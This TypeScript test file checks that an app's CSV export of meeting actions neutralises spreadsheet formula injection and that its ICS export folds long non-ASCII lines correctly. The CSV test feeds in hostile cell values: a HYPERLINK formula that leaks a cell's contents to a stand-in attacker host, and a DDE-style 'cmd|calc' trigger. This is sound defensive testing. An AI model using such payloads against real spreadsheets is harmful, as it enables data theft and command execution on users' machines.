/**
 * Hostile text in the actions exports: a spreadsheet formula in the CSV is defused, and ICS lines are
 * folded at 75 octets of UTF-8 without splitting a character (emoji, Welsh ŵ and ŷ).
 */
import fs from 'node:fs';
import path from 'node:path';
import { exportActions } from '../../../main/actions/export-request';
import { exportText } from '../../../shared/types/export';
import { actionsCsv, actionsIcs } from '../../../main/actions/exports';
import { listEntries } from '../../../main/actions/queries';
import { addManualEntry } from '../../../main/actions/updates';
import { importFile } from '../../../main/library/import-file';
import { openStore, type Store } from '../../../main/store/database';
import { parseCsv } from '../../helpers/csv';
import { SHARED_FIXTURES, makeTempDir } from '../../helpers/temp-dir';

const LEICESTER = path.join(SHARED_FIXTURES, 'minutes', 'leicester-cype-2025-01-14-agenda-and-minutes.txt');
const TODAY = '2025-02-01';

/** RFC 5545 3.1: a CRLF followed by one space or tab is removed to unfold. */
const unfold = (ics: string) => ics.replace(/\r\n[ \t]/g, '');
/** RFC 5545 3.3.11 TEXT, unescaped. */
const unescapeText = (s: string) => s.replace(/\\([\\;,nN])/g, (_m, c: string) => (c === 'n' || c === 'N' ? '\n' : c));

describe('actions exports with hostile or non-ASCII text', () => {
  let temp: ReturnType<typeof makeTempDir>;
  let store: Store;
  let committeeId: number;
  beforeAll(async () => {
    temp = makeTempDir();
    store = openStore(temp.dir);
    const first = await importFile(store, { fileName: path.basename(LEICESTER), bytes: fs.readFileSync(LEICESTER) });
    committeeId = store.db.prepare('SELECT committee_id FROM meetings WHERE id = ?').pluck().get(first.meetingId) as number;
  });
  afterAll(() => {
    store.close();
    temp.cleanup();
  });
  const entries = () => listEntries(store.db, { today: TODAY });

  test('a formula in an action is not a formula in the CSV', async () => {
    addManualEntry(store.db, { committeeId, kind: 'action', what: '=HYPERLINK("https://evil.example/?d="&A1,"Click")', owner: '@SUM(1+1)', due: '2025-02-28', recommendedTo: '+44 20 7946 0000' });
    addManualEntry(store.db, { committeeId, kind: 'action', what: '-2+3', owner: '\tcmd|calc', due: '2025-03-01' });
    for (const csv of [actionsCsv(entries()), exportText(await exportActions(store.db, { format: 'csv' }, TODAY))]) {
      const rows = parseCsv(csv);
      expect(rows.every((r) => r.length === 13)).toBe(true);
      // No cell a spreadsheet would read as a formula: each such cell starts with an apostrophe.
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(rows.flat()).toEqual(expect.arrayContaining(['\'=HYPERLINK("https://evil.example/?d="&A1,"Click")', "'@SUM(1+1)", "'-2+3", "'\tcmd|calc"]));
      expect(csv).toContain('"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")"');
      expect(csv).toContain(",'@SUM(1+1),");
      expect(csv).toContain(",'+44 20 7946 0000,");
      expect(csv).toContain(",'-2+3,");
      expect(csv).toContain(",'\tcmd|calc,");
    }
  });

  test('ICS lines are at most 75 octets, never split a character, and unfold to the text', () => {
    const emoji = `${'x'.repeat(59)}😀 after the emoji 🏴󠁧󠁢󠁷󠁬󠁳󠁿 and more 👍🏽 text`;
    const welsh = 'Ysgrifennu at Fwrdd Iechyd Prifysgol Betsi Cadwaladr ynghylch ŵyr a ŷd, gŵr, tŷ, dŵr, cwmwd ŵŷŵŷŵŷŵŷŵŷŵŷŵŷŵŷŵŷŵŷŵŷŵŷŵŷŵŷŵŷŵŷŵŷŵŷ';
    addManualEntry(store.db, { committeeId, kind: 'action', what: emoji, due: '2025-02-28' });
    const owner = Array(8).fill('Cadeirydd ŵŷ').join(' ');
    const long = `${'y'.repeat(119)}😀 and on`; // 120 UTF-16 units would end inside the emoji
    addManualEntry(store.db, { committeeId, kind: 'action', what: welsh, owner, due: '2025-02-28' });
    addManualEntry(store.db, { committeeId, kind: 'action', what: long, due: '2025-02-28' });
    const ics = actionsIcs(entries(), new Date('2025-02-01T09:00:00Z'));
    const lines = ics.split('\r\n');
    for (const line of lines) {
      expect(Buffer.byteLength(line, 'utf8')).toBeLessThanOrEqual(75);
      // No lone surrogate: each physical line is well-formed UTF-16, so it round-trips through UTF-8.
      expect(Buffer.from(line, 'utf8').toString('utf8')).toBe(line);
      expect(line).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/);
    }
    // Some lines were folded in the middle of multi-byte text.
    expect(lines.some((l) => l.startsWith(' ') && /[^ -~]/.test(l))).toBe(true);
    const logical = unfold(ics).split('\r\n');
    const summaries = logical.filter((l) => l.startsWith('SUMMARY:')).map((l) => unescapeText(l.slice('SUMMARY:'.length)));
    expect(summaries).toContain(`Due: ${emoji}`);
    expect(summaries).toContain(`Due: ${welsh.slice(0, 120)}`);
    const descriptions = logical.filter((l) => l.startsWith('DESCRIPTION:')).map((l) => unescapeText(l.slice('DESCRIPTION:'.length)));
    expect(descriptions.some((d) => d.includes(`Owner: ${owner}.`))).toBe(true);
    expect(summaries).toContain(`Due: ${'y'.repeat(119)}😀`);
  });
});
